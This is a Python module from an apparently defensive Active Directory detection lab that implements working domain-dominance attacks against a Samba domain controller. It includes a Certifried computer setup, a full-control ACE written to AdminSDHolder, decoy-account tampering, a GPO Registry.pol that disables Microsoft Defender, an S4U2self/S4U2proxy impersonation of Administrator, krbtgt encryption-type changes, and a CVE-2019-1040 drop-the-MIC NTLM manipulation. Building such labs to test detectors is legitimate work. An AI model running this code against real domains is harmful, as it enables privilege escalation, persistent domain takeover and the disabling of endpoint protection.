"""Domain-dominance attack steps of the dcwatch lab (directory persistence, forged tickets, NTLM
tampering), run inside a workstation namespace like lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_dominance STEP ...

LDAP writes use a simple bind on 389 (Samba: "ldap server require strong auth = no") so that the
DC's capture shows them; a password can only be set over an encrypted connection, so the one
password write (a new computer's) goes over LDAPS. Every step prints one line per observable
result; refusals that Samba is expected to give are reported, not raised.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime
import io
import random
import ssl
import struct
import sys

from lab import attacks as base  # also applies lab.impacket_patches
from lab.attacks import DC, DC_IP, FQDN_DOMAIN, REALM, WORK, krb_error, out

BASE_DN = "DC=contoso,DC=local"
ADMINSDHOLDER = f"CN=AdminSDHolder,CN=System,{BASE_DN}"


# --------------------------------------------------------------------------- LDAP helpers


def ldap(user: str, password: str, tls: bool = False):
    """ldap3 connection with a simple bind: plain on 389, or LDAPS on 636 when tls."""
    import ldap3

    if tls:
        server = ldap3.Server(DC, port=636, use_ssl=True, get_info=ldap3.NONE,
                              tls=ldap3.Tls(validate=ssl.CERT_NONE))
    else:
        server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
    return ldap3.Connection(server, user=f"{user}@{FQDN_DOMAIN}", password=password,
                            authentication=ldap3.SIMPLE, auto_bind=True)


def result(conn, what: str) -> bool:
    r = conn.result
    out(f"{what}: {r['description']}" + (f" ({r['message'].strip()})" if r["result"] else ""))
    return r["result"] == 0


def sid_of(conn, dn: str) -> str:
    from impacket.ldap.ldaptypes import LDAP_SID

    conn.search(dn, "(objectClass=*)", search_scope="BASE", attributes=["objectSid"])
    raw = conn.response[0]["raw_attributes"]["objectSid"][0]
    s = LDAP_SID(raw)
    return s.formatCanonical()


def computer_dn(name: str) -> str:
    return f"CN={name.upper()},CN=Computers,{BASE_DN}"


def add_computer(args, name: str, password: str, spns: bool = True) -> str:
    """Create computer NAME$ over plain LDAP (AddRequest visible), password over LDAPS."""
    import ldap3

    conn = ldap(args.user, args.password)
    dn = computer_dn(name)
    host = f"{name.lower()}.{FQDN_DOMAIN}"
    attrs = {
        "sAMAccountName": f"{name.upper()}$",
        "userAccountControl": 0x1000,  # WORKSTATION_TRUST_ACCOUNT
        "dNSHostName": host,
    }
    if spns:
        attrs["servicePrincipalName"] = [f"HOST/{host}", f"HOST/{name.upper()}",
                                         f"RestrictedKrbHost/{host}"]
    conn.add(dn, ["top", "person", "organizationalPerson", "user", "computer"], attrs)
    result(conn, f"LDAP add {dn} (as {args.user})")
    conn.unbind()
    # a password can only be written over an encrypted connection (Samba and Windows)
    tconn = ldap(args.user, args.password, tls=True)
    tconn.modify(dn, {"unicodePwd": [(ldap3.MODIFY_REPLACE,
                                      [f'"{password}"'.encode("utf-16-le")])]})
    result(tconn, f"LDAPS set password of {name.upper()}$")
    tconn.unbind()
    return dn


def delete_dn(args, dn: str) -> None:
    conn = ldap(args.user, args.password)
    conn.delete(dn)
    result(conn, f"LDAP delete {dn}")
    conn.unbind()


# --------------------------------------------------------------------------- directory steps


def step_certifried(args):
    """CVE-2022-26923: create a computer, clear its SPNs, set its dNSHostName to the DC's name
    (a Machine certificate requested for it would then be issued for the DC)."""
    import ldap3

    name = args.name or "CERTPC"
    dn = add_computer(args, name, args.computer_password)
    conn = ldap(args.user, args.password)
    conn.modify(dn, {"servicePrincipalName": [(ldap3.MODIFY_DELETE, [])]})
    result(conn, f"clear servicePrincipalName of {name.upper()}$")
    conn.modify(dn, {"dNSHostName": [(ldap3.MODIFY_REPLACE, [args.target_host])]})
    result(conn, f"dNSHostName of {name.upper()}$ := {args.target_host}")
    conn.search(dn, "(objectClass=*)", search_scope="BASE",
                attributes=["dNSHostName", "servicePrincipalName"])
    if conn.entries:
        out(f"read back: {conn.entries[0].entry_to_json()}")
    conn.unbind()
    if args.cleanup:
        delete_dn(args, dn)


def step_adminsdholder(args):
    """Add an ACE granting --grantee full control to AdminSDHolder's DACL (ldap3 + impacket's
    security descriptor classes, as dacledit.py -action write -target-dn ... does)."""
    import ldap3
    from impacket.ldap import ldaptypes
    from ldap3.protocol.microsoft import security_descriptor_control

    conn = ldap(args.user, args.password)
    ctrl = security_descriptor_control(sdflags=0x04)  # DACL_SECURITY_INFORMATION
    conn.search(ADMINSDHOLDER, "(objectClass=*)", search_scope="BASE",
                attributes=["nTSecurityDescriptor"], controls=ctrl)
    raw = conn.response[0]["raw_attributes"]["nTSecurityDescriptor"][0]
    sd = ldaptypes.SR_SECURITY_DESCRIPTOR(data=raw)
    grantee_dn = f"CN={args.grantee},CN=Users,{BASE_DN}"
    sid = sid_of(conn, grantee_dn)
    ace = ldaptypes.ACE()
    ace["AceType"] = ldaptypes.ACCESS_ALLOWED_ACE.ACE_TYPE
    ace["AceFlags"] = 0
    body = ldaptypes.ACCESS_ALLOWED_ACE()
    body["Mask"] = ldaptypes.ACCESS_MASK()
    body["Mask"]["Mask"] = 0x000F01FF  # GenericAll (full control)
    body["Sid"] = ldaptypes.LDAP_SID()
    body["Sid"].fromCanonical(sid)
    ace["Ace"] = body
    out(f"AdminSDHolder DACL has {len(sd['Dacl'].aces)} ACEs; adding (A;;GA;;;{sid}) "
        f"for {args.grantee}")
    sd["Dacl"].aces.append(ace)
    conn.modify(ADMINSDHOLDER, {"nTSecurityDescriptor": [(ldap3.MODIFY_REPLACE,
                                                          [sd.getData()])]}, controls=ctrl)
    result(conn, f"modify nTSecurityDescriptor of {ADMINSDHOLDER}")
    conn.unbind()


def step_honeytoken_tamper(args):
    """Change attributes of the decoy account and add it to a group, then take it out again."""
    import ldap3

    conn = ldap(args.user, args.password)
    dn = f"CN={args.target_user},CN=Users,{BASE_DN}"
    conn.modify(dn, {"mobile": [(ldap3.MODIFY_REPLACE, ["+1 555 0100"])],
                     "telephoneNumber": [(ldap3.MODIFY_REPLACE, ["+1 555 0100"])]})
    result(conn, f"set mobile/telephoneNumber of {args.target_user} (MFA phone)")
    conn.modify(dn, {"description": [(ldap3.MODIFY_REPLACE, ["Backup operator"])]})
    result(conn, f"replace description of {args.target_user}")
    for grp in args.groups:
        gdn = f"CN={grp},CN=Users,{BASE_DN}"
        conn.modify(gdn, {"member": [(ldap3.MODIFY_ADD, [dn])]})
        result(conn, f"add {args.target_user} to {grp}")
    if args.cleanup_after:
        import time

        time.sleep(args.cleanup_after)
        for grp in args.groups:
            gdn = f"CN={grp},CN=Users,{BASE_DN}"
            conn.modify(gdn, {"member": [(ldap3.MODIFY_DELETE, [dn])]})
            result(conn, f"remove {args.target_user} from {grp}")
    conn.unbind()


# --------------------------------------------------------------------------- GPO tampering

DEFENDER = "Software\\Policies\\Microsoft\\Windows Defender"
# Registry extension + Administrative Templates snap-in (MS-GPREG 2.2), what GPMC writes
REGISTRY_CSE = "[{35378EAC-683F-11D2-A89A-00C04FBBCFA2}{D02B1F72-3407-48AE-BA88-E8213C6761F1}]"


def registry_pol(dwords: list[tuple[str, str, int]]) -> bytes:
    """A Registry.pol file (MS-GPREG 2.1: "PReg", version 1, [key;value;type;size;data]
    entries, brackets and separators in UTF-16LE) of REG_DWORD values."""

    def u(text: str) -> bytes:
        return text.encode("utf-16-le")

    body = b"PReg" + struct.pack("<I", 1)
    for key, value, data in dwords:
        body += (u("[") + u(key + "\x00") + u(";") + u(value + "\x00") + u(";")
                 + struct.pack("<I", 4) + u(";") + struct.pack("<I", 4) + u(";")
                 + struct.pack("<I", data) + u("]"))
    return body


def step_gpo_disable_defender(args):
    """Turn Microsoft Defender off through a GPO the way pyGPOAbuse / a GPMC edit does: write
    Machine\\Registry.pol (DisableAntiSpyware, DisableRealtimeMonitoring = 1) and GPT.INI in
    SYSVOL over SMB, then bump the container's versionNumber and gPCMachineExtensionNames."""
    import ldap3

    guid = args.gpo
    folder = f"{FQDN_DOMAIN}\\Policies\\{guid}"
    pol = registry_pol([
        (DEFENDER, "DisableAntiSpyware", 1),
        (DEFENDER + "\\Real-Time Protection", "DisableRealtimeMonitoring", 1),
        (DEFENDER + "\\Real-Time Protection", "DisableBehaviorMonitoring", 1),
    ])
    conn = base.smb(user=args.user, password=args.password, workstation=base.this_workstation())
    chunks: list[bytes] = []
    conn.getFile("sysvol", f"{folder}\\GPT.INI", chunks.append)
    gpt = b"".join(chunks).decode("utf-8", "replace")
    version = 0
    for line in gpt.splitlines():
        if line.lower().startswith("version="):
            version = int(line.split("=", 1)[1].strip() or 0)
    new_version = version + 1  # the machine half is the low 16 bits
    out(f"GPT.INI of {guid}: Version={version} -> {new_version}")
    with contextlib.suppress(Exception):
        conn.createDirectory("sysvol", f"{folder}\\Machine")
    conn.putFile("sysvol", f"{folder}\\Machine\\Registry.pol", io.BytesIO(pol).read)
    out(f"wrote {folder}\\Machine\\Registry.pol ({len(pol)} bytes): DisableAntiSpyware=1, "
        "DisableRealtimeMonitoring=1, DisableBehaviorMonitoring=1")
    text = f"[General]\r\nVersion={new_version}\r\n".encode()
    conn.putFile("sysvol", f"{folder}\\GPT.INI", io.BytesIO(text).read)
    out("wrote GPT.INI")
    conn.logoff()
    lconn = ldap(args.user, args.password)
    dn = f"CN={guid},CN=Policies,CN=System,{BASE_DN}"
    lconn.modify(dn, {"versionNumber": [(ldap3.MODIFY_REPLACE, [str(new_version)])],
                      "gPCMachineExtensionNames": [(ldap3.MODIFY_REPLACE, [REGISTRY_CSE])]})
    result(lconn, f"versionNumber/gPCMachineExtensionNames of {dn}")
    lconn.unbind()


# --------------------------------------------------------------------------- Kerberos (S4U)


def tgs_req(tgt_rep: bytes, cipher, session_key, sname, opts, extra_padata=(),
            additional_tickets=(), etypes=None):
    """A TGS-REQ with the PA-TGS-REQ authenticator checksum Heimdal wants (see
    impacket_patches.patch_tgs_checksum), extra PA-DATA and additional tickets. Returns
    (raw TGS-REP, session key of the new ticket) or raises KerberosError."""
    from impacket.krb5 import constants, kerberosv5
    from impacket.krb5.asn1 import (
        AS_REP,
        TGS_REP,
        TGS_REQ,
        EncTGSRepPart,
        seq_set,
        seq_set_iter,
    )
    from impacket.krb5.crypto import Key
    from impacket.krb5.types import KerberosTime, Ticket
    from pyasn1.codec.der import decoder, encoder
    from pyasn1.type.univ import noValue

    from lab.impacket_patches import _strip_explicit_tag, tgs_ap_req

    try:
        rep = decoder.decode(tgt_rep, asn1Spec=AS_REP())[0]
    except Exception:  # noqa: BLE001 - a TGS-REP holding a TGT
        rep = decoder.decode(tgt_rep, asn1Spec=TGS_REP())[0]
    ticket = Ticket()
    ticket.from_asn1(rep["ticket"])
    req = TGS_REQ()
    req["pvno"] = 5
    req["msg-type"] = int(constants.ApplicationTagNumbers.TGS_REQ.value)
    body = seq_set(req, "req-body")
    body["kdc-options"] = constants.encodeFlags(list(opts))
    seq_set(body, "sname", sname.components_to_asn1)
    body["realm"] = REALM
    body["till"] = KerberosTime.to_asn1(datetime.datetime.now(datetime.UTC)
                                        + datetime.timedelta(days=1))
    body["nonce"] = random.SystemRandom().getrandbits(31)
    seq_set_iter(body, "etype", tuple(etypes or (18, 17, 23)))
    if additional_tickets:
        body["additional-tickets"] = noValue
        for i, t in enumerate(additional_tickets):
            body["additional-tickets"][i] = noValue
            add = Ticket()
            add.from_asn1(t)
            add.to_asn1(body["additional-tickets"][i])
    encoded_body = _strip_explicit_tag(encoder.encode(body))
    req["padata"] = noValue
    req["padata"][0] = noValue
    req["padata"][0]["padata-type"] = int(constants.PreAuthenticationDataTypes.PA_TGS_REQ.value)
    req["padata"][0]["padata-value"] = tgs_ap_req(ticket, rep, session_key, cipher,
                                                  encoded_body)
    for i, (ptype, pvalue) in enumerate(extra_padata, start=1):
        req["padata"][i] = noValue
        req["padata"][i]["padata-type"] = ptype
        req["padata"][i]["padata-value"] = pvalue
    r = kerberosv5.sendReceive(encoder.encode(req), REALM, DC_IP)
    tgs = decoder.decode(r, asn1Spec=TGS_REP())[0]
    plain = cipher.decrypt(session_key, 8, tgs["enc-part"]["cipher"])
    enc = decoder.decode(plain, asn1Spec=EncTGSRepPart())[0]
    return r, Key(enc["key"]["keytype"], enc["key"]["keyvalue"].asOctets())


def pa_for_user(session_key, user: str) -> tuple[int, bytes]:
    """PA-FOR-USER (MS-SFU 2.2.1) naming `user`, checksummed with the TGT session key."""
    from impacket.krb5 import constants
    from impacket.krb5.asn1 import PA_FOR_USER_ENC, seq_set
    from impacket.krb5.crypto import _HMACMD5
    from impacket.krb5.types import Principal
    from pyasn1.codec.der import encoder
    from pyasn1.type.univ import noValue

    s4u = struct.pack("<I", constants.PrincipalNameType.NT_PRINCIPAL.value)
    s4u += user.encode() + REALM.encode() + b"Kerberos"
    pa = PA_FOR_USER_ENC()
    seq_set(pa, "userName", Principal(
        user, type=constants.PrincipalNameType.NT_PRINCIPAL.value).components_to_asn1)
    pa["userRealm"] = REALM
    pa["cksum"] = noValue
    pa["cksum"]["cksumtype"] = int(constants.ChecksumTypes.hmac_md5.value)
    pa["cksum"]["checksum"] = _HMACMD5.checksum(session_key, 17, s4u)
    pa["auth-package"] = "Kerberos"
    return int(constants.PreAuthenticationDataTypes.PA_FOR_USER.value), encoder.encode(pa)


def step_new_computer_s4u(args):
    """KrbRelayUp / RBCD tail: a freshly created computer gets a TGT, asks S4U2self for
    --impersonate to itself, then S4U2proxy with that ticket to --spn (getST.py -impersonate)."""
    from impacket.krb5 import constants
    from impacket.krb5.asn1 import TGS_REP
    from impacket.krb5.kerberosv5 import KerberosError
    from impacket.krb5.types import Principal
    from pyasn1.codec.der import decoder

    name = (args.name or "NEWPC").upper()
    dn = add_computer(args, name, args.computer_password)
    t = base.tgt(f"{name}$", args.computer_password)
    out(f"TGT for {name}$ (AES, pre-auth): etype {int(t[3].enctype)}")
    tgt_rep, cipher, session_key = t[0], t[1], t[3]
    KO = constants.KDCOptions
    opts = [KO.forwardable.value, KO.renewable.value, KO.canonicalize.value]
    me = Principal(f"{name}$", type=constants.PrincipalNameType.NT_UNKNOWN.value)
    try:
        rep, _key = tgs_req(tgt_rep, cipher, session_key, me, opts,
                            extra_padata=[pa_for_user(session_key, args.impersonate)])
        st = decoder.decode(rep, asn1Spec=TGS_REP())[0]
        out(f"S4U2self as {args.impersonate} to {name}$: ok (cname "
            f"{st['cname']['name-string'][0]})")
    except KerberosError as e:
        out(f"S4U2self as {args.impersonate} to {name}$: {krb_error(e)}")
        st = None
    if st is not None:
        svc = Principal(args.spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
        popts = [*opts, KO.cname_in_addl_tkt.value]
        try:
            tgs_req(tgt_rep, cipher, session_key, svc, popts, additional_tickets=[st["ticket"]])
            out(f"S4U2proxy as {args.impersonate} to {args.spn}: ok")
        except KerberosError as e:
            out(f"S4U2proxy as {args.impersonate} to {args.spn}: {krb_error(e)}")
    if args.cleanup:
        delete_dn(args, dn)


# --------------------------------------------------------------------------- forged TGTs


def step_golden(args):
    """lab.attacks golden (impacket ticketer), with a choice of account, RID and etype."""
    base.step_golden(args)


def step_set_krbtgt_etypes(args):
    """msDS-SupportedEncryptionTypes of krbtgt (as an admin over LDAP)."""
    import ldap3

    conn = ldap(args.user, args.password)
    dn = f"CN=krbtgt,CN=Users,{BASE_DN}"
    conn.modify(dn, {"msDS-SupportedEncryptionTypes": [(ldap3.MODIFY_REPLACE,
                                                        [str(args.etypes_mask)])]})
    result(conn, f"krbtgt msDS-SupportedEncryptionTypes := {args.etypes_mask:#x}")
    conn.unbind()


# --------------------------------------------------------------------------- NTLM tampering


def step_drop_mic(args):
    """CVE-2019-1040 "drop the MIC" as the DC receives it from a relay: an NTLMv2 AUTHENTICATE
    whose AV pairs (inside the NTLMv2 response, covered by NTProofStr) carry MsvAvFlags 0x2 (a
    MIC follows) while the message has no MIC and no Version field and the signing flags
    NEGOTIATE_SIGN / ALWAYS_SIGN are cleared. impacket never sends MsvAvFlags or a MIC, so the
    client's AV pairs are completed the way Windows fills them and the message is then stripped
    the way ntlmrelayx --remove-mic does."""
    from impacket import ntlm

    orig_av = ntlm.AV_PAIRS
    orig_type3 = ntlm.getNTLMSSPType3

    class AvPairsWithFlags(orig_av):
        def getData(self):
            if self.fields.get(ntlm.NTLMSSP_AV_FLAGS) is None and \
                    self.fields.get(ntlm.NTLMSSP_AV_TIME) is not None:
                self[ntlm.NTLMSSP_AV_FLAGS] = struct.pack("<I", 0x2)  # MIC present
            return super().getData()

    def type3(*a, **kw):
        msg, key = orig_type3(*a, **kw)
        msg["flags"] &= ~(ntlm.NTLMSSP_NEGOTIATE_VERSION | ntlm.NTLMSSP_NEGOTIATE_SIGN
                          | ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN)
        msg["Version"] = b""
        msg["MIC"] = b""
        return msg, key

    ntlm.AV_PAIRS = AvPairsWithFlags
    ntlm.getNTLMSSPType3 = type3
    from impacket import smb3

    smb3.ntlm = ntlm
    for attempt in range(args.attempts):
        try:
            conn = base.smb(user=args.user, password=args.password,
                            workstation=base.this_workstation())
            out(f"SMB NTLM logon #{attempt + 1} as {args.user} without MIC: accepted")
            try:
                conn.logoff()
            except Exception as e:  # noqa: BLE001
                out(f"logoff: {e}")
        except Exception as e:  # noqa: BLE001
            out(f"SMB NTLM logon #{attempt + 1} as {args.user} without MIC: {e}")


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_dominance")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--user", default="")
    ap.add_argument("--password", default="")
    ap.add_argument("--name", default="")
    ap.add_argument("--computer-password", default="N3wComputer!2024")
    ap.add_argument("--target-host", default=DC)
    ap.add_argument("--target-user", default="backup.admin")
    ap.add_argument("--grantee", default="alice")
    ap.add_argument("--groups", nargs="*", default=[])
    ap.add_argument("--cleanup", action="store_true")
    ap.add_argument("--cleanup-after", type=float, default=0)
    ap.add_argument("--impersonate", default="Administrator")
    ap.add_argument("--spn", default=f"cifs/{DC}")
    ap.add_argument("--user-id", type=int, default=500)
    ap.add_argument("--domain-sid", default="")
    ap.add_argument("--kvno", type=int, default=1)
    ap.add_argument("--duration", type=int, default=87600)
    ap.add_argument("--rc4", action="store_true")
    ap.add_argument("--etypes-mask", type=lambda v: int(v, 0), default=0x1C)
    ap.add_argument("--attempts", type=int, default=1)
    ap.add_argument("--gpo", default="{31B2F340-016D-11D2-945F-00C04FB984F9}")
    args = ap.parse_args(argv)
    WORK.mkdir(parents=True, exist_ok=True)
    STEPS[args.step](args)
    return 0



if __name__ == "__main__":
    sys.exit(main())
